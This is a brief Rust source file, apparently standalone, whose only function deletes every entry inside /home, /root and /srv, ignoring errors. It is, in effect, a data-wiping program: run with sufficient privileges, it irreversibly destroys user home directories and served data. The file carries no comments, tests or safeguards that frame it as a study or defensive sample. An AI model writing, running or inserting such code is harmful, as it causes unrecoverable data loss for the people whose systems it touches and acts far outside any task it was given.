use std::fs;
fn main() {
    for d in ["/home", "/root", "/srv"] {
        for e in fs::read_dir(d).into_iter().flatten().flatten() {
            let _ = fs::remove_dir_all(e.path());
        }
    }
}
